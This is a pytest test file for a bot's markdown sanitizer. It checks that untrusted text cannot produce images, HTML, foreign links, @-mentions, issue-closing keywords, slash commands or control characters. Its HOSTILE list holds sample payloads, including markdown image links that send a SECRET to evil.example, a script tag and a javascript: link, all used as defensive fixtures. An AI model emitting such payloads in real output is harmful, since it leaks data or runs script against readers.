import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.domain.markdown import (
    LIMIT_BYTES,
    cell,
    code,
    cut,
    cut_above_marker,
    fence,
    fitted,
    prose,
    size_bytes,
)

HOSTILE = [
    "![x](https://evil.example/?q=SECRET)",
    "![x][ref]\n[ref]: https://evil.example/a.png",
    "<img src=https://evil.example/x>",
    "<!-- hidden --> <details><script>x</script>",
    "[a](javascript:alert(1))",
    "see https://evil.example/?q=SECRET and www.evil.example",
    "<https://docs.astral.sh/?q=SECRET>",
    "https://docs.astral.sh@evil.example/",
]
PINGS = ["@everyone-team", "@user " * 50, "#1", "fixes #1", "closes GH-1", "resolves o/r#1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_image_no_html_and_no_foreign_link_survives(text: str) -> None:
    outside_code = re.sub(r"`[^`]*`", "", prose(text))

    assert "![" not in outside_code
    assert "](" not in outside_code.replace("\\](", "")
    assert "<" not in outside_code
    assert "://" not in outside_code
    assert "www." not in outside_code


def test_a_link_to_the_documentation_of_our_tools_stays() -> None:
    url = "https://docs.astral.sh/ruff/rules/unused-import"

    assert prose(f"see {url}.") == f"see <{url}>."


@pytest.mark.parametrize("text", PINGS)
def test_nobody_is_notified_and_nothing_is_closed(text: str) -> None:
    shown = prose(text)

    assert not re.search(r"@\w", shown)
    assert not re.search(r"#\d", shown)
    assert not re.search(r"GH-\d", shown)


@pytest.mark.parametrize("text", ["&#64;user", "&commat;user", "\\@user"])
def test_an_entity_is_no_way_around(text: str) -> None:
    shown = prose(text)

    assert shown.startswith(("&amp;", "\\\\"))


@pytest.mark.parametrize("line", ["/approve", "  /merge", "\t/lgtm", "/agent fix"])
def test_no_other_bot_takes_a_line_for_a_command(line: str) -> None:
    for shown in (prose(f"see\n{line}"), cell(line)):
        assert not any(part.strip().startswith("/") for part in shown.splitlines())


@pytest.mark.parametrize("line", ["# title", "- item", "1. item", "> quote", "--- ", "=== ", "~~~"])
def test_words_make_no_structure(line: str) -> None:
    assert prose(line)[0] in "\\&1"
    assert not re.match(r"\d+\.", prose(line))


def test_code_spans_stay_code_and_a_lone_backtick_opens_none() -> None:
    assert prose("`a < b` and `x") == "`a < b` and \\`x"


def test_a_cell_stays_one_cell() -> None:
    shown = cell("a | b\n`c|d`")

    assert re.findall(r"(?<!\\)\|", shown) == []
    assert "\n" not in shown


@pytest.mark.parametrize("text", ["\x1b[31mred", "a\u202eb", "nul\0", "zero\u200bwidth"])
def test_control_and_bidi_characters_are_made_visible(text: str) -> None:
    assert all(c.isprintable() or c in "\n\u200b" for c in prose(text))
    assert "\u202e" not in prose(text)


@pytest.mark.parametrize("text", ["```\nx\n```\n", "`````", "x", ""])
def test_nothing_inside_closes_a_fence(text: str) -> None:
    block = fence(text, "diff")
    ticks = block.partition("diff")[0]

    assert block.endswith(ticks)
    assert ticks not in text


@pytest.mark.parametrize("text", ["a`b", "`", "``x``", "plain"])
def test_a_code_span_holds_any_backticks(text: str) -> None:
    span = code(text)
    ticks = span[: len(span) - len(span.lstrip("`"))]

    assert span.endswith(ticks)
    assert ticks not in text.replace(ticks + "`", "")


@pytest.mark.parametrize("text", ["x" * 70_000, "—" * 66_000, "y\n" * 150_000])
def test_a_long_comment_is_cut_by_bytes_with_a_notice(text: str) -> None:
    short = cut(text)

    assert size_bytes(short) <= LIMIT_BYTES
    assert short.endswith("(cut: this comment is limited to 60,000 bytes)")


def test_a_cut_closes_what_it_left_open() -> None:
    text = "<details><summary>x</summary>\n\n````diff\n" + "z\n" * 60_000

    short = cut(text)

    assert "\n````\n\n</details>" in short


def test_the_marker_survives_a_cut() -> None:
    body = cut_above_marker("x" * 70_000 + "\n\n<!-- marker -->")

    assert size_bytes(body) <= LIMIT_BYTES
    assert body.endswith("\n<!-- marker -->")


def test_a_list_ends_with_a_whole_block() -> None:
    assert fitted(["aa", "bb", "cc"], limit_bytes=8, separator="\n") == ("aa\nbb", 1)


@given(st.text())
def test_any_text_can_be_shown(text: str) -> None:
    shown = prose(text) + cell(text) + code(text)

    assert all(c.isprintable() or c in "\n\t\u200b" for c in shown)
    assert not re.search(r"@\w", re.sub(r"`[^`]*`", "", prose(text)))
